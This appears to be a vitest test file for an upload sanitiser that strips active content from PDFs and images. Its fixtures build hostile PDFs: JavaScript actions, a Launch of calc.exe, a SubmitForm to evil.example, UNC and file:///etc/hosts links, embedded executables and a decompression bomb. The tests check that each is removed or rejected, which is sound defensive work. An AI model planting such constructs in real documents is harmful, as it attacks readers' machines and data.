import { constants, deflateRawSync } from 'node:zlib';
import { PDFDocument, PDFName, type PDFObject, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { pdfText } from '../../test/pdf.ts';
import { nonEmpty } from '../../test/non-empty.ts';
import { readPaper } from './papers.ts';

/** Creates a one-page document with this text, and the additions of `more`. */
async function pdf(more: (document: PDFDocument) => void | Promise<void> = () => undefined) {
  const document = await PDFDocument.create();
  document.addPage([300, 200]).drawText('Illness from 3 to 9 November');
  await more(document);
  return document.save({ useObjectStreams: false });
}

/** A PDF dictionary as an object literal. */
interface Dict {
  [name: string]: Dict | PDFObject | string | number | number[];
}

/** Adds an annotation with this action, or of this type, to the first page. */
function annotate(document: PDFDocument, dict: Dict): void {
  const annotation = document.context.register(document.context.obj(dict));
  document.getPage(0).node.addAnnot(annotation);
}
const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], F: 4 };
const opens = (document: PDFDocument, action: Dict) => annotate(document, { ...link, A: action });

/** Returns the whole document, decompressed, as readers and scanners see its names. */
async function insides(bytes: Uint8Array): Promise<string> {
  const document = await PDFDocument.load(bytes, { updateMetadata: false });
  return document.context
    .enumerateIndirectObjects()
    .map(([, value]) => value.toString())
    .join('\n');
}

/** Returns the stored form of a document. */
async function storedOf(sent: Uint8Array): Promise<Uint8Array> {
  const paper = await readPaper(sent);
  if (paper === null || typeof paper === 'string') throw new Error('The paper was refused');
  return paper.bytes;
}

async function cleaned(more: Parameters<typeof pdf>[0]): Promise<string> {
  const bytes = await storedOf(await pdf(more));
  expect(await pdfText(bytes)).toEqual(['Illness from 3 to 9 November']);
  return insides(bytes);
}

describe('removed from a PDF', () => {
  const string = (text: string) => PDFString.of(text);
  const all: [what: string, sign: RegExp, more: (document: PDFDocument) => void | Promise<void>][] = [
    ['run when it is opened', /alert|JavaScript|JS/, (one) => one.addJavaScript('start', 'app.alert(1)')],
    [
      'run by an action of the document',
      /OpenAction|alert/,
      ({ catalog, context }) =>
        catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: string('app.alert(1)') })),
    ],
    [
      'run by an action of a page, its name written otherwise',
      /alert|AA/,
      (one) =>
        one
          .getPage(0)
          .node.set(
            PDFName.of('A#41'),
            one.context.obj({ O: { S: PDFName.of('Java#53cript'), JS: string('app.alert(1)') } }),
          ),
    ],
    ['hand out a file', /secret|EmbeddedFile|Filespec/, (one) => one.attach(Buffer.from('secret'), 'a.exe')],
    [
      'hand out a file from a page',
      /FileAttachment|Filespec/,
      (one) =>
        annotate(one, { Type: 'Annot', Subtype: 'FileAttachment', FS: { Type: 'Filespec', F: string('a') } }),
    ],
    ['start a program', /Launch|calc/, (one) => opens(one, { S: 'Launch', F: string('calc.exe') })],
    [
      'send a form',
      /SubmitForm|evil/,
      (one) => opens(one, { S: 'SubmitForm', F: string('http://evil.example') }),
    ],
    [
      'open another document',
      /GoToR|share/,
      (one) => opens(one, { S: 'GoToR', F: string('\\\\host\\share') }),
    ],
    ['run by a link', /alert|URI/, (one) => opens(one, { S: 'URI', URI: string('javascript:alert(1)') })],
    [
      'open a file of the reader',
      /etc|URI/,
      (one) => opens(one, { S: 'URI', URI: string('file:///etc/hosts') }),
    ],
    [
      'run after something harmless',
      /alert/,
      (one) => opens(one, { S: 'Named', N: 'NextPage', Next: { S: 'JavaScript', JS: string('alert(1)') } }),
    ],
    [
      'play',
      /RichMedia|swf/,
      (one) => annotate(one, { Type: 'Annot', Subtype: 'RichMedia', Name: string('swf') }),
    ],
    [
      'make a form of its own',
      /XFA|xdp/,
      ({ catalog, context }) =>
        catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: string('<xdp/>') })),
    ],
    ['name its author', /Author/, (one) => one.setAuthor('Anna')],
  ];

  it.each(nonEmpty(all))('uploaded documents: a stored PDF can no longer %s', async (_what, sign, more) => {
    expect(await insides(await pdf(more))).toMatch(sign);
    expect(await cleaned(more)).not.toMatch(sign);
  });
});

describe('kept in a PDF', () => {
  it('uploaded documents: keeps a web link of a PDF in its position', async () => {
    const uri = PDFString.of('https://minzdrav.gov.by/');
    const storedPdf = await cleaned((one) => opens(one, { S: 'URI', URI: uri }));
    expect(storedPdf).toMatch(/https:\/\/minzdrav.gov.by\//);
    expect(storedPdf).toMatch(/\/F 4/);
  });

  it('uploaded documents: drops bytes after a PDF and rejects a PDF with bytes before it', async () => {
    const script = Buffer.from('<script>1</script>');
    const whole = await pdf();
    const bytes = Buffer.from(await storedOf(Buffer.concat([whole, script])));
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    expect(bytes.includes('<script>')).toBe(false);
    expect(await readPaper(Buffer.concat([script, whole]))).toBeNull();
  });

  it('uploaded documents: keeps the text of a signed PDF without its signature', async () => {
    const storedPdf = await cleaned(({ catalog, context }) => {
      const signature = context.obj({
        Type: 'Sig',
        Filter: 'Adobe.PPKLite',
        Contents: PDFString.of('signed'),
      });
      const field = context.obj({ FT: 'Sig', T: PDFString.of('Signature1'), V: context.register(signature) });
      catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [context.register(field)], SigFlags: 3 }));
    });
    expect(storedPdf).toContain('Signature1');
    expect(storedPdf).not.toMatch(/PPKLite|signed|SigFlags/);
  });
});

/** Deflates this many spaces by repeating one block, because deflating all of them takes seconds. */
function packedSpaces(count: number): Buffer {
  const size = 1_000_000;
  const block = deflateRawSync(Buffer.alloc(size, ' '), { finishFlush: constants.Z_FULL_FLUSH });
  const end = deflateRawSync(Buffer.alloc(0));
  // The header of zlib; reading ends long before the checksum.
  const head = Buffer.from([0x78, 0x9c]);
  return Buffer.concat([head, ...Array.from({ length: count / size }, () => block), end, Buffer.alloc(4)]);
}

describe('unreadable PDF', () => {
  it('uploaded documents: rejects a PDF without pages as unreadable', async () => {
    expect(await readPaper(Buffer.from('%PDF-1.7 paper'))).toBe('unreadable');
    expect(await readPaper((await pdf()).subarray(0, 200))).toBe('unreadable');
  });

  it('uploaded documents: rejects an encrypted PDF as unreadable', async () => {
    const locked = await pdf((one) => one.encrypt({ userPassword: 'a', ownerPassword: 'b' }));
    expect(await readPaper(locked)).toBe('unreadable');
  });

  it('uploaded documents: rejects a decompression bomb as unreadable and serves other requests in the meantime', {
    timeout: 30_000,
  }, async () => {
    const packed = packedSpaces(900_000_000);
    const head = `%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 9/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
    const reading = readPaper(
      Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream\nendobj\ntrailer<</Root 2 0 R>>')]),
      { pdfTimeout: 1500 },
    );
    let turns = 0;
    const beat = setInterval(() => (turns += 1), 20);
    expect(await reading).toBe('unreadable');
    clearInterval(beat);
    expect(turns).toBeGreaterThan(25);
  });
});

it('uploaded documents: stores only the picture of a file with an appended script', async () => {
  const picture = await sharp({ create: { width: 40, height: 30, channels: 3, background: 'white' } })
    .withExif({ IFD0: { Artist: 'Anna' } })
    .jpeg()
    .toBuffer();
  const stored = await storedOf(Buffer.concat([picture, Buffer.from('<script>alert(1)</script>')]));
  const text = Buffer.from(stored).toString('latin1');
  expect(text).not.toMatch(/script|Anna/);
  expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 40, height: 30 });
});
